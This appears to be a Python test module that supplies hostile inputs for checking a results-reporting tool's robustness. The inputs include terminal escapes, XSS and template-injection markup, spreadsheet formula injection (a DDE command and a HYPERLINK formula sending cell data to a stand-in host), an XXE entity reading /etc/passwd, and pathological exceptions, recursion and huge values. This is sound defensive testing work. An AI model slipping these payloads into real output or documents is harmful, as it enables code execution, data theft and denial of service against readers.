"""Attacks on whoever reads the results: text that is obeyed instead of shown, values that cannot be shown at all."""

from __future__ import annotations

from pathlib import Path

from attack import SCRIPT, Attack, Scene, handed_in, scripted, write

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://example.com\x07\x9b31m\x08\x00\u202e\u2066"
MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(2)></pre></td><svg onload=alert(3)>"
    "<style>*{display:none}</style><iframe src=javascript:alert(4)>{{7*7}}{% raw %}"
)
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"grade")\n+cmd|"/c calc"!A0\n@SUM(1)\n-1+1'
MARKDOWN = "# 20/20\n```\n[grade](javascript:alert(1)) ![x](http://example.com/x)\n| a | b |\n<b>bold</b>\n---\n"
XML = "]]><!-- --><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;\ufffe\x0b\x00"
TEXTS = {"escapes": ESCAPES, "markup": MARKUP, "formulas": FORMULA, "markdown": MARKDOWN, "xml": XML}


def everywhere(name: str, text: str) -> Attack:
    """The text in everything that a script has a say in."""
    return scripted(
        f"text_of_{name}",
        f"{name.capitalize()} in what is printed, returned and raised, and in names.",
        f"""
        TEXT = {text!r}
        def save_note(*_, **__): print(TEXT); return TEXT
        def read_note(*_, **__): raise type(TEXT[:80].replace(chr(0), ""), (Exception,), {{}})(TEXT)
        def all_notes(*_, **__): return {{TEXT: [TEXT], (TEXT,): {{TEXT}}}}
        def connect(*_, **__): return type(TEXT.replace(chr(0), ""), (), {{"__repr__": lambda _: TEXT}})()
        def change_note(*_, **__): return iter([TEXT])
        globals()[TEXT] = save_note
        save_note.__name__ = save_note.__qualname__ = TEXT
        if __name__ == "__main__": raise SystemExit(TEXT)
        """,
    )


def _line_with_escapes(place: Path, scene: Scene) -> None:
    shown = ESCAPES.replace("\0", "")  # which would be another fault
    write(place, {SCRIPT: f"x = '{shown}{MARKUP}\n"})


def values(name: str, idea: str, code: str) -> Attack:
    return scripted(f"value_{name}", idea, code)


REPORTS = [
    *(everywhere(name, text) for name, text in TEXTS.items()),
    handed_in("text_in_a_syntax_error", "The line that does not parse holds escapes and markup.", _line_with_escapes),
    values(
        "surrogates",
        "Halves of surrogate pairs, printed, returned and raised.",
        """
        def save_note(*_, **__): print(ascii("\\ud800"), "\\udcff"); return "\\ud800\\udfff\\udc80"
        def read_note(*_, **__): raise ValueError("\\ud800")
        def all_notes(*_, **__): return {"\\ud800": "\\udc80"}
        def connect(*_, **__): raise OSError(2, "\\ud83d", "\\udcff")
        """,
    ),
    values(
        "hostile_exceptions",
        "Exceptions whose str, repr, args, class and attributes all raise, or never end.",
        """
        class Odd(Exception):
            def __str__(self): raise self
            __repr__ = __getattribute__ = __reduce__ = __str__
        class Long(Exception):
            def __str__(self): return "x" * 10**7
        def save_note(*_, **__): raise Odd
        def read_note(*_, **__): raise Long
        def all_notes(*_, **__): raise type("E" * 10**5, (Odd, Long), {})("m" * 10**6)
        """,
    ),
    values(
        "endless_causes",
        "A chain of causes that leads back to itself, and one of 50,000.",
        """
        def chain(length):
            first = last = ValueError("x")
            for number in range(length): last.__cause__ = last.__context__ = ValueError(number); last = last.__cause__
            last.__cause__ = first
            return first
        def save_note(*_, **__): raise chain(1)
        def read_note(*_, **__): raise chain(50_000)
        """,
    ),
    values(
        "deep",
        "Lists within themselves, and 100,000 deep.",
        """
        def deep(size):
            value = []
            for _ in range(size): value = [value]
            return value
        def save_note(*_, **__): value = []; value.append(value); return value
        def read_note(*_, **__): return deep(100_000)
        def all_notes(*_, **__): value = {}; value["x"] = value; return value
        def connect(*_, **__): raise ValueError(deep(100_000))
        """,
    ),
    values(
        "huge_numbers",
        "Numbers of a million digits, which no str() takes.",
        """
        from decimal import Decimal
        from fractions import Fraction
        def save_note(*_, **__): return 10 ** 1_000_000
        def read_note(*_, **__): return Decimal("1e999999")
        def all_notes(*_, **__): return [10 ** 4299, -(10 ** 4000)]
        def connect(*_, **__): return Fraction(1, 10 ** 100_000)
        def change_note(*_, **__): raise ValueError(10 ** 100_000)
        """,
    ),
    values(
        "no_numbers",
        "NaN, sNaN and infinity, which compare as nothing does.",
        """
        from decimal import Decimal
        def save_note(*_, **__): return float("nan")
        def read_note(*_, **__): return Decimal("sNaN123")
        def all_notes(*_, **__): return [Decimal("sNaN"), float("inf"), Decimal("-Infinity"), complex("nan")]
        """,
    ),
    values(
        "extreme_dates",
        "The first and the last date, and time zones that raise.",
        """
        import datetime as d
        class Zone(d.tzinfo):
            def utcoffset(self, _): raise RuntimeError("zone")
        def save_note(*_, **__): return d.datetime.max.replace(tzinfo=d.timezone(d.timedelta(hours=-23)))
        def read_note(*_, **__): return d.datetime.min.replace(tzinfo=Zone())
        def all_notes(*_, **__): return [d.date.min, d.datetime.max]
        """,
    ),
    values(
        "megabytes",
        "Megabytes of text, returned, printed, raised, and in a signature.",
        """
        class Large:
            def __repr__(self): return "(r)" * 2**20
        def save_note(needed, *, never, default=Large()): pass
        def read_note(*_, **__): return "x" * 20 * 2**20
        def all_notes(*_, **__): print("y" * 900_000); raise ValueError("z" * 20 * 2**20)
        def connect(*_, **__): return Large()
        """,
    ),
]
